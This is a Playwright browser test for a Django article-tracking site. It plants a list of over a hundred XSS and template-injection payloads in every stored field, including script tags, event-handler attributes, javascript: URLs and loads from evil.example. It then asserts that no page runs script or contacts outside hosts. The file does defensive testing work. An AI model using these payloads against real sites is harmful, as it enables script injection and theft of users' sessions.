"""Hostile texts wherever a page, a feed, a site or an operator can put one, in a real Chromium."""

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.test import Client
from playwright.sync_api import Dialog

from articles.models import Article, Boilerplate, Check, Feed, Host, Snapshot, Source
from tests import cast

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

RUN = "alert(1)"
ATTRIBUTES = (
    "src=x onerror",
    "onload",
    "onfocus autofocus tabindex=1 onfocus",
    "onmouseover",
    "onanimationstart",
)
ELEMENTS = (
    "img svg body iframe video audio details input select textarea marquee object embed link style".split()
)
PAYLOADS = [
    *(f"<{element} {attribute}={RUN}>" for element in ELEMENTS for attribute in ATTRIBUTES),
    *(
        f"</{element}><script>{RUN}</script>"
        for element in ("title", "textarea", "style", "script", "td", "a", "p")
    ),
    f"<script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<ScRiPt\x0c>{RUN}</sCrIpT >",
    f"\"'><script>{RUN}</script>",
    f"' onmouseover='{RUN}",
    f'" onfocus="{RUN}" autofocus="',
    f"` onerror=`{RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"]]><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "{{ 7|add:7 }}{% csrf_token %}{% load static %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/x.png>",
    "<form action=https://evil.example/><button>x",
    "<svg><use href=https://evil.example/x.svg#a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "\u202e<script>alert(1)</script>\u202d",
    "＜script＞alert(1)＜/script＞",
    "</body></html><script>alert(1)</script>",
]


@pytest.fixture
def hostile() -> Article:
    """An article with all payloads, of a source whose every field is one too."""
    cache.clear()
    everything = " ".join(PAYLOADS)
    source = cast.make_source(PAYLOADS[0] + PAYLOADS[-1], "gazette")
    Source.objects.update(
        name=f"\"'><script>{RUN}</script><img src=x onerror={RUN}>",
        url=f"javascript:{RUN}",
        language='x" on=1',
    )
    source.refresh_from_db()
    old = [f"{payload} stands here and says nothing else of note." for payload in PAYLOADS]
    new = [f"{payload} stands here, and says nothing more of note today." for payload in PAYLOADS[::-1]]
    at = cast.DAY_ONE
    found = cast.make_article(source, PAYLOADS[1], old, at, standfirst=everything, byline=PAYLOADS[2])
    cast.add_version(
        found,
        new,
        at=at.replace(hour=14),
        title=f"</title><script>{RUN}</script>",
        byline=f"'\"><svg onload={RUN}>",
    )
    found.refresh_from_db()
    reason = f"certificate of <script>{RUN}</script><img src=x onerror={RUN}>"
    Article.objects.update(
        url=f'https://gazette.example/"><script>{RUN}</script>',
        last_reason=reason,
        last_outcome="failed",
        failures=3,
    )
    Article.objects.update(last_error=reason, pending_reason=reason, pending_digest="x", last_error_at=at)
    Feed.objects.update(
        url=f"https://gazette.example/<script>{RUN}</script>", title=everything[:300], failures=3
    )
    Feed.objects.update(last_error=reason, last_error_at=at)
    Host.objects.update(robots=everything, last_error=reason, failures=3)
    Check.objects.update(reason=reason)
    Snapshot.objects.update(headers=[[payload, payload] for payload in PAYLOADS])
    for payload in PAYLOADS[:5]:
        Boilerplate.objects.create(
            source=source,
            key=str(PAYLOADS.index(payload)),
            sample=payload,
            first_seen_at=at,
            left_out_since=at,
            seen_on=[1, 2, 3],
        )
    return found


def pages_of(article: Article) -> list[str]:
    below = f"/articles/{article.pk}"
    admin = [
        f"/admin/articles/{model}/"
        for model in "source feed article version change check snapshot host heartbeat boilerplate".split()
    ]
    own = [
        ("article", article.pk),
        ("source", article.source_id),
        ("feed", Feed.objects.get().pk),
        ("host", article.host_id),
        ("version", article.versions.first().pk),
        ("change", article.changes.get().pk),
        ("check", article.checks.first().pk),
        ("snapshot", Snapshot.objects.first().pk),
        ("boilerplate", Boilerplate.objects.first().pk),
    ]
    return [
        "/",
        "/sources/",
        "/sources/gazette/",
        "/sources/gazette/?list=changes",
        "/stats/",
        "/about/",
        f"{below}/",
        f"{below}/diff/1/2/",
        f"{below}/diff/1/2/?view=inline&context=all",
        f"{below}/diff/1/2/?view=changes",
        f"{below}/versions/1/",
        f"{below}/versions/2/",
        "/api/v1/docs",
        "/admin/",
        *admin,
        *(f"/admin/articles/{model}/{pk}/change/" for model, pk in own),
        f"/admin/articles/article/{article.pk}/history/",
        "/admin/articles/source/add/",
        "/admin/articles/article/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/admin/auth/user/",
    ]


def test_there_are_a_hundred_payloads():
    assert len(set(PAYLOADS)) > 100


def test_no_text_of_a_page_runs_anywhere(hostile, live_server, browser):
    """Every page in Chromium: no dialog, no script that ran, no breach of the policy, nothing from elsewhere."""
    operator = get_user_model().objects.create_superuser(f'"><script>{RUN}</script>', password=None)
    session = Client()
    session.force_login(operator)
    context = browser.new_context(base_url=live_server.url)
    context.add_cookies(
        [
            {
                "name": "sessionid",
                "value": session.cookies["sessionid"].value,
                "url": f"{live_server.url}/admin/",
            }
        ]
    )
    page = context.new_page()
    wrong: list[str] = []

    def dialog(shown: Dialog) -> None:
        wrong.append(f"dialog on {page.url}")
        shown.dismiss()

    page.on("dialog", dialog)
    page.on(
        "console", lambda m: wrong.append(f"{page.url}: {m.text}") if m.type in ("error", "warning") else None
    )
    page.on("pageerror", lambda error: wrong.append(f"{page.url}: {error}"))
    page.on(
        "request",
        lambda r: (
            None if r.url.startswith((live_server.url, "data:")) else wrong.append(f"{page.url} asks {r.url}")
        ),
    )
    for address in pages_of(hostile):
        answer = page.goto(address, wait_until="load")
        assert answer is not None
        assert answer.status == 200, address
        if address.startswith("/admin"):
            assert "/admin/login/" not in page.url, address
        made = "document.querySelectorAll('iframe, object, embed, base, meta[http-equiv=refresh], [onerror], [onload]')"
        assert page.evaluate(f"{made}.length") == 0, address
        scripts = page.evaluate(
            "[...document.scripts].filter(s => !s.src && s.type !== 'application/json').length"
        )
        assert scripts == 0, address
        # Of drawings too; but for the bookmark that looks an article up, which holds nothing of any page.
        chosen = 'a[href]:not([href$="?url=\'+encodeURIComponent(location.href)"])'
        scheme = "link => new URL(link.getAttribute('href'), location).protocol"
        links = page.evaluate(f"[...document.querySelectorAll({chosen!r})].map({scheme})")
        assert set(links) <= {"http:", "https:", "mailto:"}, address
    context.close()
    assert wrong == []
